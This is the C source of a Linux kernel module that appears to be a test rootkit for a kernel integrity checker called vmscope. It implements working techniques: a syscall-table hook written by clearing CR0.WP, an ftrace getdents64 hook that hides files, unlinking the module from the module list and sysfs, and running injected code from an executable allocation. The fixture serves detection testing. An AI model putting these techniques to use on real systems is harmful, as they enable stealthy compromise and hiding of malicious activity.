// SPDX-License-Identifier: GPL-2.0
/*
 * vmscope_rootkit: a test rootkit for vmscope's kernel integrity checks
 * (package cfi). One behaviour per load, chosen by the mode parameter:
 *
 *   sct     overwrite sys_call_table[__NR_getdents64] with a function of
 *           this module (CR0.WP cleared around the write: the table is
 *           read-only after init). Kernels with the BHI fix dispatch
 *           through x64_sys_call, so the hook changes nothing but the table.
 *   ftrace  hook __x64_sys_getdents64 with an IPMODIFY ftrace_ops that
 *           hides directory entries starting with "vmscope_hidden".
 *   hide    unlink this module from the modules list and from sysfs
 *           (list_del, kobject_del), and keep a timer running its code.
 *   code    copy a function to a fresh executable allocation
 *           (module_alloc, set_memory_ro, set_memory_x) and run it from a
 *           timer.
 *
 * Unexported symbols are found through kallsyms_lookup_name, whose address
 * a kprobe gives. Every action is printed, with its addresses, as
 * "vmscope-rootkit: KEY=VALUE ..." lines: the ground truth of the tests.
 */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/kprobes.h>
#include <linux/ftrace.h>
#include <linux/timer.h>
#include <linux/slab.h>
#include <linux/uaccess.h>
#include <linux/dirent.h>
#include <linux/syscalls.h>
#include <linux/string.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("vmscope test rootkit (fixture of the kernel integrity checks)");

static char *mode = "";
module_param(mode, charp, 0);
MODULE_PARM_DESC(mode, "sct, ftrace, hide or code");

#define PFX "vmscope-rootkit: "
#define HIDE_PREFIX "vmscope_hidden"

typedef unsigned long (*lookup_fn)(const char *name);
static lookup_fn klookup;

static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err < 0)
		return err;
	klookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	pr_info(PFX "kallsyms_lookup_name=%px\n", klookup);
	return 0;
}

/* ---- sct ---- */

typedef long (*syscall_fn)(const struct pt_regs *);
static syscall_fn *sct;
static syscall_fn sct_old;

static noinline long rk_sct_getdents64(const struct pt_regs *regs)
{
	return sct_old(regs);
}

static inline void wp_write_cr0(unsigned long v)
{
	/* native_write_cr0 re-sets a pinned WP bit: write CR0 directly */
	asm volatile("mov %0, %%cr0" : "+r"(v) : : "memory");
}

static int do_sct(void)
{
	unsigned long cr0, flags;

	sct = (syscall_fn *)klookup("sys_call_table");
	if (!sct)
		return -ENOENT;
	sct_old = sct[__NR_getdents64];
	local_irq_save(flags);
	cr0 = read_cr0();
	wp_write_cr0(cr0 & ~X86_CR0_WP);
	sct[__NR_getdents64] = rk_sct_getdents64;
	wp_write_cr0(cr0);
	local_irq_restore(flags);
	pr_info(PFX "mode=sct table=%px nr=%d slot=%px old=%px new=%px\n", sct, __NR_getdents64,
		&sct[__NR_getdents64], sct_old, rk_sct_getdents64);
	return 0;
}

/* ---- ftrace ---- */

static unsigned long fh_target;
static syscall_fn fh_orig;

static noinline long rk_getdents64(const struct pt_regs *regs)
{
	struct linux_dirent64 __user *udir = (void __user *)regs->si;
	long ret = fh_orig(regs), off = 0, out = 0;
	char *buf;

	if (ret <= 0 || ret > 1 << 20)
		return ret;
	buf = kvmalloc(ret, GFP_KERNEL);
	if (!buf)
		return ret;
	if (copy_from_user(buf, udir, ret)) {
		kvfree(buf);
		return ret;
	}
	while (off < ret) {
		struct linux_dirent64 *d = (void *)(buf + off);
		unsigned short len = d->d_reclen;

		if (len == 0 || off + len > ret)
			break;
		if (strncmp(d->d_name, HIDE_PREFIX, sizeof(HIDE_PREFIX) - 1) != 0) {
			memmove(buf + out, d, len);
			out += len;
		}
		off += len;
	}
	if (copy_to_user(udir, buf, out))
		out = ret;
	kvfree(buf);
	return out;
}

static void notrace rk_ftrace_thunk(unsigned long ip, unsigned long parent_ip,
				    struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	struct pt_regs *regs = ftrace_get_regs(fregs);

	if (regs && !within_module(parent_ip, THIS_MODULE))
		regs->ip = (unsigned long)rk_getdents64;
}

static struct ftrace_ops rk_ops = {
	.func = rk_ftrace_thunk,
	.flags = FTRACE_OPS_FL_SAVE_REGS | FTRACE_OPS_FL_RECURSION | FTRACE_OPS_FL_IPMODIFY,
};

static int do_ftrace(void)
{
	int err;

	fh_target = klookup("__x64_sys_getdents64");
	if (!fh_target)
		return -ENOENT;
	fh_orig = (syscall_fn)fh_target;
	err = ftrace_set_filter_ip(&rk_ops, fh_target, 0, 0);
	if (err)
		return err;
	err = register_ftrace_function(&rk_ops);
	if (err)
		return err;
	pr_info(PFX "mode=ftrace ops=%px func=%px target=%px replacement=%px trampoline=%px trampoline_size=%lu\n",
		&rk_ops, rk_ftrace_thunk, (void *)fh_target, rk_getdents64,
		(void *)rk_ops.trampoline, rk_ops.trampoline_size);
	return 0;
}

/* ---- timers (hide, code) ---- */

static struct timer_list rk_timer;
static unsigned long rk_ticks;
static void (*rk_code)(unsigned long *counter);

static noinline void rk_tick(struct timer_list *t)
{
	if (rk_code)
		rk_code(&rk_ticks);
	else
		rk_ticks++;
	mod_timer(&rk_timer, jiffies + msecs_to_jiffies(100));
}

static void start_timer(void)
{
	timer_setup(&rk_timer, rk_tick, 0);
	mod_timer(&rk_timer, jiffies + msecs_to_jiffies(100));
}

/* ---- hide ---- */

static int do_hide(void)
{
	struct module *m = THIS_MODULE;

	start_timer();
	list_del(&m->list);
	kobject_del(&m->mkobj.kobj);
	pr_info(PFX "mode=hide module=%px name=%s base=%px size=%u text_size=%u timer_fn=%px\n",
		m, m->name, m->core_layout.base, m->core_layout.size, m->core_layout.text_size, rk_tick);
	return 0;
}

/* ---- code ---- */

/* addq $1, (%rdi); ret; int3 padding: position-independent, no thunk */
static const unsigned char payload[] = { 0x48, 0x83, 0x07, 0x01, 0xc3, 0xcc, 0xcc, 0xcc };

static int do_code(void)
{
	void *(*alloc)(unsigned long size) = (void *)klookup("module_alloc");
	int (*set_ro)(unsigned long addr, int numpages) = (void *)klookup("set_memory_ro");
	int (*set_x)(unsigned long addr, int numpages) = (void *)klookup("set_memory_x");
	void *p;

	if (!alloc || !set_ro || !set_x)
		return -ENOENT;
	p = alloc(PAGE_SIZE);
	if (!p)
		return -ENOMEM;
	memset(p, 0xcc, PAGE_SIZE);
	memcpy(p, payload, sizeof(payload));
	set_ro((unsigned long)p, 1);
	set_x((unsigned long)p, 1);
	rk_code = p;
	start_timer();
	pr_info(PFX "mode=code code=%px size=%lu timer_fn=%px\n", p, PAGE_SIZE, rk_tick);
	return 0;
}

static int __init rk_init(void)
{
	int err = find_lookup();

	if (err) {
		pr_info(PFX "error=kprobe:%d\n", err);
		return 0;
	}
	if (!strcmp(mode, "sct"))
		err = do_sct();
	else if (!strcmp(mode, "ftrace"))
		err = do_ftrace();
	else if (!strcmp(mode, "hide"))
		err = do_hide();
	else if (!strcmp(mode, "code"))
		err = do_code();
	else
		pr_info(PFX "mode=none\n");
	if (err)
		pr_info(PFX "error=%s:%d\n", mode, err);
	return 0;
}
module_init(rk_init);
